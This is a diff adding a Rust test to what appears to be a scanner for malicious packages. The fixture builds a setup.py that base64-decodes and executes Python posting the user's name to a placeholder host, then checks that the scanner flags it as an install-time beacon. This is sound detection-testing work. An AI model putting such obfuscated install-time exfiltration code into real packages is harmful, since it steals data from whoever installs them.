@@ -259,3 +259,35 @@ fn sending_secrets_is_critical_when_the_code_chose_where() {
         report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
     assert_eq!(f.severity, Severity::High);
 }
+
+/// A payload decoded from an install-time file runs at install too: the
+/// beacon inside `exec(b64decode(...))` in setup.py is an install beacon.
+#[test]
+fn a_payload_decoded_in_setup_py_runs_at_install_time() {
+    let inner =
+        "import getpass, requests\nrequests.post('https://collector.example.invalid', data=getpass.getuser())\n";
+    let encoded = base64_of(inner.as_bytes());
+    let src = format!("import base64\nexec(base64.b64decode('{encoded}'))\n");
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
+    let f =
+        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert!(f.file.starts_with("setup.py:") && f.file.ends_with("(decoded)"), "{}", f.file);
+}
+
+/// Standard base64, written here so the test needs no crate for it.
+fn base64_of(bytes: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
